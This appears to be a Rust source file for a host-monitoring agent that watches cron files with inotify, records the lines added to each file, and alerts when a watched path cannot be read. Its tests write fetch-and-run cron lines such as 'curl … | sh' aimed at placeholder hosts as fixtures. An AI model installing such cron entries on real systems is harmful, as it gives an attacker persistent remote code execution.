//! The cron-file sensor: inotify (the kernel's file event source) on `cron.paths`. Each file
//! written or moved into place is compared with its SHA-256 snapshot in the store; when it
//! changed, the lines it gained go to the event loop, where `detect::cron` judges them.
//! Every file is also checked once at start, so a change made while the agent was down is
//! reported too — once.
//!
//! A watched file or directory that exists but refuses the agent (a per-user crontab is mode
//! 0600, owned by its user: a root agent without `CAP_DAC_READ_SEARCH` cannot open it) is not
//! skipped in silence: it raises a `switch_flood` alert ([`crate::detect::switch_flood`]),
//! once, and again only after it was readable in between.

use std::{
    collections::HashMap,
    ffi::OsString,
    io,
    os::unix::fs::MetadataExt,
    path::{Path, PathBuf},
};

use inotify::{Inotify, WatchDescriptor, WatchMask};
use sha2::{Digest, Sha256};
use tokio::sync::mpsc;
use tracing::{debug, info, warn};

use crate::{
    detect::{
        Work,
        cron::{Change, added_lines},
        switch_flood::{Blindspots, refused},
    },
    store::history::{History, Snapshot},
    untrusted_file::{Links, Unreadable, UntrustedFile},
};

/// Bytes of a cron file read at most (cron files are small; a huge one is cut).
const MAX_FILE: u64 = 1024 * 1024;

#[derive(Debug, thiserror::Error)]
pub enum CronWatchError {
    #[error("inotify: {0}")]
    Inotify(#[from] std::io::Error),
    #[error(transparent)]
    History(#[from] crate::store::history::HistoryError),
}

/// A watched directory and, for a single configured file, the one name that matters in it.
type Watches = HashMap<WatchDescriptor, Vec<(PathBuf, Option<OsString>)>>;

/// Start watching `paths` on a thread of its own; changes go to `tx`.
pub fn spawn(
    paths: &[PathBuf],
    db: &Path,
    tx: mpsc::UnboundedSender<Work>,
) -> Result<(), CronWatchError> {
    let history = History::open(db)?;
    let inotify = Inotify::init()?;
    let mask = WatchMask::CLOSE_WRITE | WatchMask::MOVED_TO;
    let mut watches: Watches = HashMap::new();
    let mut files = Vec::new();
    // Paths that refused the agent at start, reported from the watcher's thread.
    let mut blind: Vec<(PathBuf, io::Error)> = Vec::new();
    for path in paths {
        let (dir, only) = match watched_dir(path) {
            Ok(Some(target)) => target,
            Ok(None) => {
                debug!(path = %path.display(), "cron path absent: not watched");
                continue;
            }
            Err(e) => {
                blind.push((path.clone(), e));
                continue;
            }
        };
        let wd = match inotify.watches().add(&dir, mask) {
            Ok(wd) => wd,
            Err(e) if refused(&e) => {
                blind.push((dir, e));
                continue;
            }
            Err(e) => return Err(e.into()),
        };
        match files_in(&dir, only.as_deref()) {
            Ok(found) => files.extend(found),
            Err(e) => blind.push((dir.clone(), e)),
        }
        watches.entry(wd).or_default().push((dir, only));
    }
    info!(
        watched = watches.len(),
        files = files.len(),
        "cron files watched"
    );
    std::thread::Builder::new()
        .name("cron-watch".into())
        .spawn(move || {
            let mut watcher = Watcher {
                history,
                tx,
                blindspots: Blindspots::new(),
            };
            for (path, e) in blind {
                watcher.note(&path, Err(&e));
            }
            for file in files {
                watcher.check(&file);
            }
            watcher.run(inotify, &watches);
        })?;
    Ok(())
}

/// The directory watched for `path` and, when `path` is not a directory itself, the one name
/// in it that matters; `None` when neither exists. A refusal (a parent the agent may not
/// search) is an error, so that it is reported instead of taken for "absent".
fn watched_dir(path: &Path) -> io::Result<Option<(PathBuf, Option<OsString>)>> {
    match std::fs::metadata(path) {
        Ok(meta) if meta.is_dir() => return Ok(Some((path.to_path_buf(), None))),
        Err(e) if refused(&e) => return Err(e),
        // A file, or not there (yet): its directory is watched for it.
        _ => {}
    }
    Ok(match (path.parent(), path.file_name()) {
        (Some(parent), Some(name)) if parent.is_dir() => {
            Some((parent.to_path_buf(), Some(name.to_os_string())))
        }
        _ => None,
    })
}

/// The cron files in `dir` (or only `only` in it).
fn files_in(dir: &Path, only: Option<&std::ffi::OsStr>) -> io::Result<Vec<PathBuf>> {
    if let Some(name) = only {
        return Ok(vec![dir.join(name)]);
    }
    Ok(std::fs::read_dir(dir)?
        .flatten()
        .map(|e| e.path())
        .collect())
}

/// Editor and `crontab` temporaries, which cron never runs.
fn ignored(name: &str) -> bool {
    name.starts_with('.') || name.starts_with("tmp.") || name.ends_with('~')
}

struct Watcher {
    history: History,
    tx: mpsc::UnboundedSender<Work>,
    /// Watched paths that refused the agent at their last read.
    blindspots: Blindspots,
}

impl Watcher {
    fn run(&mut self, mut inotify: Inotify, watches: &Watches) {
        let mut buffer = [0u8; 4096];
        loop {
            let events = match inotify.read_events_blocking(&mut buffer) {
                Ok(events) => events,
                Err(e) => {
                    warn!("cron watch stopped: {e}");
                    return;
                }
            };
            let changed: Vec<PathBuf> = events
                .filter_map(|ev| {
                    let name = ev.name?;
                    let (dir, _) = watches
                        .get(&ev.wd)?
                        .iter()
                        .find(|(_, only)| only.as_deref().is_none_or(|o| o == name))?;
                    Some(dir.join(name))
                })
                .collect();
            for path in changed {
                self.check(&path);
                if self.tx.is_closed() {
                    return;
                }
            }
        }
    }

    /// Compare `path` with its snapshot; report what it gained.
    fn check(&mut self, path: &Path) {
        let name = path.file_name().map(|n| n.to_string_lossy().into_owned());
        if name.as_deref().is_none_or(ignored) {
            return;
        }
        let (content, uid) = match read_file(path) {
            Ok(read) => {
                self.note(path, Ok(()));
                read
            }
            Err(e) => {
                debug!(path = %path.display(), "cron file {e}");
                if let Unreadable::Io(e) = &e {
                    self.note(path, Err(e));
                }
                return;
            }
        };
        let sha256 = hex::encode(Sha256::digest(content.as_bytes()));
        let old = match self.history.snapshot(path) {
            Ok(old) => old,
            Err(e) => {
                warn!("cron snapshot of {}: {e}", path.display());
                None
            }
        };
        if old.as_ref().is_some_and(|o| o.sha256 == sha256) {
            return;
        }
        let added = added_lines(old.as_ref().map_or("", |o| o.content.as_str()), &content);
        if let Err(e) = self
            .history
            .put_snapshot(path, &Snapshot { sha256, content })
        {
            warn!("storing the cron snapshot of {}: {e}", path.display());
        }
        debug!(path = %path.display(), added = added.len(), "cron file changed");
        if !added.is_empty() {
            let _ = self.tx.send(Work::CronChanged(Change {
                path: path.to_path_buf(),
                uid,
                added,
            }));
        }
    }

    /// What reading `path` gave: a watched path that refuses the agent raises `switch_flood`
    /// (once, until it was readable again).
    fn note(&mut self, path: &Path, result: Result<(), &io::Error>) {
        if let Some(finding) = self.blindspots.read(path, result) {
            let _ = self.tx.send(Work::Found(Box::new(finding)));
        }
    }
}

/// A regular file's text (at most [`MAX_FILE`] bytes) and owner. Opened as an
/// [`UntrustedFile`]: a FIFO or device in a cron directory is skipped at once, not waited on
/// (this thread would stop watching); a symlink is followed (cron files may be links).
fn read_file(path: &Path) -> Result<(String, u32), Unreadable> {
    let file = UntrustedFile::open(path, Links::Follow)?;
    let bytes = file.head(MAX_FILE)?;
    Ok((
        String::from_utf8_lossy(&bytes).into_owned(),
        file.metadata().uid(),
    ))
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;

    async fn next(rx: &mut mpsc::UnboundedReceiver<Work>) -> Change {
        match tokio::time::timeout(Duration::from_secs(5), rx.recv()).await {
            Ok(Some(Work::CronChanged(c))) => c,
            other => panic!("no change: {other:?}"),
        }
    }

    #[tokio::test]
    async fn reports_a_change_once_with_the_lines_it_gained() {
        let dir = tempfile::tempdir().unwrap();
        let cron_d = dir.path().join("cron.d");
        std::fs::create_dir(&cron_d).unwrap();
        let crontab = dir.path().join("crontab");
        std::fs::write(&crontab, "17 * * * * root run-parts /etc/cron.hourly\n").unwrap();
        std::fs::write(cron_d.join(".placeholder"), "curl x | sh\n").unwrap();
        let (tx, mut rx) = mpsc::unbounded_channel();
        spawn(
            &[crontab.clone(), cron_d.clone(), dir.path().join("absent")],
            &dir.path().join("s.db"),
            tx,
        )
        .unwrap();
        // First sight: every line is new.
        let first = next(&mut rx).await;
        assert_eq!(first.path, crontab);
        assert_eq!(first.added, ["17 * * * * root run-parts /etc/cron.hourly"]);
        // A new file in the directory, then an append to the crontab.
        std::fs::write(cron_d.join("job"), "* * * * * root curl x.example | sh\n").unwrap();
        let c = next(&mut rx).await;
        assert_eq!(
            (c.path, c.added),
            (
                cron_d.join("job"),
                vec!["* * * * * root curl x.example | sh".to_string()]
            )
        );
        let mut text = std::fs::read_to_string(&crontab).unwrap();
        text.push_str("0 1 * * * root /usr/bin/true\n");
        std::fs::write(&crontab, &text).unwrap();
        let c = next(&mut rx).await;
        assert_eq!(c.added, ["0 1 * * * root /usr/bin/true"]);
        // Rewriting the same content reports nothing.
        std::fs::write(&crontab, &text).unwrap();
        assert!(
            tokio::time::timeout(Duration::from_millis(500), rx.recv())
                .await
                .is_err(),
            "unchanged content reported"
        );
        // A FIFO moved into place is skipped, and the watcher goes on.
        crate::untrusted_file::testing::mkfifo(&dir.path().join("trap"));
        std::fs::rename(dir.path().join("trap"), cron_d.join("trap")).unwrap();
        std::fs::write(cron_d.join("after"), "* * * * * root wget -q x.example\n").unwrap();
        let c = next(&mut rx).await;
        assert_eq!(c.path, cron_d.join("after"));
    }

    /// Any message within `wait`.
    async fn any(rx: &mut mpsc::UnboundedReceiver<Work>, wait: Duration) -> Option<Work> {
        tokio::time::timeout(wait, rx.recv()).await.ok().flatten()
    }

    /// Write `text` beside `dir` with `mode`, then rename it to `dir/name` (as `crontab` does).
    fn put(dir: &Path, name: &str, text: &str, mode: u32) {
        use std::{io::Write, os::unix::fs::OpenOptionsExt};
        let staging = dir.parent().unwrap().join(format!("staging-{name}"));
        let _ = std::fs::remove_file(&staging);
        let mut file = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(mode)
            .open(&staging)
            .unwrap();
        file.write_all(text.as_bytes()).unwrap();
        drop(file);
        std::fs::rename(&staging, dir.join(name)).unwrap();
    }

    /// [`spawn`] from a thread without CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH in its
    /// effective set (capabilities belong to threads; the watcher's thread inherits them), so
    /// that a mode 0200 file refuses it even when the tests run as root.
    fn spawn_without_dac(paths: Vec<PathBuf>, db: PathBuf, tx: mpsc::UnboundedSender<Work>) {
        std::thread::spawn(move || {
            use caps::{CapSet, Capability};
            for cap in [
                Capability::CAP_DAC_OVERRIDE,
                Capability::CAP_DAC_READ_SEARCH,
            ] {
                caps::drop(None, CapSet::Effective, cap).unwrap();
            }
            spawn(&paths, &db, tx).unwrap();
        })
        .join()
        .unwrap();
    }

    #[tokio::test]
    async fn a_file_it_cannot_read_alerts_once_until_it_was_readable_again() {
        let dir = tempfile::tempdir().unwrap();
        let spool = dir.path().join("crontabs");
        std::fs::create_dir(&spool).unwrap();
        let job = "* * * * * curl -s http://198.51.100.2/x | sh\n";
        put(&spool, "www-data", job, 0o200);
        let (tx, mut rx) = mpsc::unbounded_channel();
        spawn_without_dac(vec![spool.clone()], dir.path().join("s.db"), tx);
        let wait = Duration::from_secs(5);
        let refused = |work: Option<Work>| match work {
            Some(Work::Found(f)) => {
                assert_eq!(f.anomaly.name(), "switch_flood");
                assert_eq!(
                    f.culprit.exe.as_deref(),
                    Some(&*spool.join("www-data").display().to_string())
                );
                assert!(f.detail.contains("CAP_DAC_READ_SEARCH"), "{}", f.detail);
            }
            other => panic!("no switch_flood finding: {other:?}"),
        };
        // Seen at start.
        refused(any(&mut rx, wait).await);
        // Changed, still unreadable: nothing new.
        put(&spool, "www-data", &format!("{job}{job}"), 0o200);
        assert!(any(&mut rx, Duration::from_millis(500)).await.is_none());
        // Readable: its lines are judged, and no alert about reading it.
        put(&spool, "www-data", job, 0o600);
        match any(&mut rx, wait).await {
            Some(Work::CronChanged(c)) => assert_eq!(c.added, [job.trim()]),
            other => panic!("no change: {other:?}"),
        }
        // Unreadable again: news again.
        put(&spool, "www-data", &format!("{job}# x\n"), 0o200);
        refused(any(&mut rx, wait).await);
        // Another, readable file raises no refusal.
        put(&spool, "root", "0 4 * * * /usr/local/bin/backup\n", 0o600);
        assert!(matches!(
            any(&mut rx, wait).await,
            Some(Work::CronChanged(_))
        ));
        assert!(any(&mut rx, Duration::from_millis(500)).await.is_none());
    }

    #[tokio::test]
    async fn a_directory_it_cannot_read_alerts_at_start() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let locked = dir.path().join("cron.d");
        std::fs::create_dir(&locked).unwrap();
        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o300)).unwrap();
        let (tx, mut rx) = mpsc::unbounded_channel();
        spawn_without_dac(vec![locked.clone()], dir.path().join("s.db"), tx);
        match any(&mut rx, Duration::from_secs(5)).await {
            Some(Work::Found(f)) => {
                assert_eq!(f.anomaly.name(), "switch_flood");
                assert!(
                    f.detail.contains(&*locked.to_string_lossy()),
                    "{}",
                    f.detail
                );
            }
            other => panic!("no switch_flood finding: {other:?}"),
        }
        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o700)).unwrap();
    }
}
